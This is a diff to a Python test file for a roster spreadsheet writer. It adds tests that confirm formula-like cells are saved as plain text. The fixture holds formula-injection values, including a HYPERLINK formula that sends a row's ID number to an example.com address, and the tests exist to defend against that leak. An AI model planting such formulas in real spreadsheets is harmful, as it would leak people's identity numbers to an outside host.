@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from datetime import date
 from pathlib import Path
 
@@ -44,7 +45,7 @@ def test_rejected_rows_are_written_with_their_reasons_and_read_back(tmp_path: Pa
     rejected = [r.row for r in rows if r.rejected]
     assert rejected == [4, 5, 6]
     out = tmp_path / "rejected.xlsx"
-    assert write_rejected(out, sheet, header, rows) == 3
+    assert write_rejected(out, sheet, header, rows).rows == 3
 
     again = roster.read_sheet(out)
     found = roster.detect_header(again)
@@ -88,6 +89,68 @@ def test_id_cells_are_text_and_reasons_translated(tmp_path: Path) -> None:
 def test_nothing_rejected_writes_only_the_header(tmp_path: Path) -> None:
     sheet, header, rows = checked(roster_file(tmp_path / "r.xlsx"))
     out = tmp_path / "none.xlsx"
-    assert write_rejected(out, sheet, header, [r for r in rows if not r.rejected]) == 0
+    assert write_rejected(out, sheet, header, [r for r in rows if not r.rejected]).rows == 0
     again = roster.read_sheet(out)
     assert len(again.rows) == 1 and again.rows[0][-2:] == [PROBLEMS_HEADER, ROW_HEADER]
+
+
+# --- every cell safe to open (io/xlsx_safe) ------------------------------------------------
+
+
+def _sheet_xml(path: Path) -> bytes:
+    with zipfile.ZipFile(path) as book:
+        return book.read("xl/worksheets/sheet1.xml")
+
+
+def _hostile_rows() -> tuple[roster.Sheet, roster.Header, list[roster.RosterRow]]:
+    """Rows as a roster may hold them (cells raw, as calamine gives them), each rejected."""
+    labels = ["姓名", "公民身份号码", "联系电话", "房号", "备注"]
+    sheet = roster.Sheet("花名册\x01", [
+        labels,
+        ["=HYPERLINK(\"http://example.com/?id=\"&B2,\"点我\")", GOOD, "-", "501", "@SUM(1,2)"],
+        ["张三\x00李四", OTHER, "+86 138 1234 5678", "502", "\tcmd"],
+        ["", THIRD, "13812345678", "503", "x" * 40_000],
+    ])
+    header = roster.detect_header(sheet)
+    rows = roster.validate(sheet, header)
+    assert all(r.rejected for r in rows)
+    return sheet, header, rows
+
+
+def test_a_cell_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    """Finding: the rejected-rows workbook wrote a cell beginning with "=" as a live formula (a
+    HYPERLINK that sent a row's ID number to a web address when opened)."""
+    sheet, header, rows = _hostile_rows()
+    out = tmp_path / "rejected.xlsx"
+    write_rejected(out, sheet, header, rows)
+    xml = _sheet_xml(out)
+    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the file
+    ws = load_workbook(out).active
+    cell = ws["A2"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
+    assert ws["E2"].value == "@SUM(1,2)" and ws["E2"].quotePrefix and ws["E3"].quotePrefix
+    again = roster.read_sheet(out)  # and it reads back as the same text
+    assert again.rows[1][0] == sheet.rows[1][0] and again.rows[1][4] == "@SUM(1,2)"
+
+
+def test_phones_like_a_dash_or_plus_86_stay_text_and_read_back_the_same(tmp_path: Path) -> None:
+    sheet, header, rows = _hostile_rows()
+    out = tmp_path / "rejected.xlsx"
+    write_rejected(out, sheet, header, rows)
+    again = roster.read_sheet(out)
+    assert [r[2] for r in again.rows[1:]] == ["-", "+86 138 1234 5678", "13812345678"]
+    ws = load_workbook(out).active
+    assert ws["C2"].data_type == "s" and ws["C3"].data_type == "s"
+
+
+def test_a_control_character_no_longer_stops_the_file_and_is_counted(tmp_path: Path) -> None:
+    """Finding: a name with a control character made writing fail, so no file was produced."""
+    sheet, header, rows = _hostile_rows()
+    out = tmp_path / "rejected.xlsx"
+    written = write_rejected(out, sheet, header, rows)
+    assert (written.rows, written.replaced, written.shortened, written.changed) == (3, 1, 1, 2)
+    ws = load_workbook(out).active  # it opens
+    assert ws["A3"].value == "张三\ufffd李四"
+    assert len(ws["E4"].value) == 32_767  # cut to what Excel holds in a cell
+    assert ws.title == "花名册"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["rejected.xlsx"]  # no temporary file left
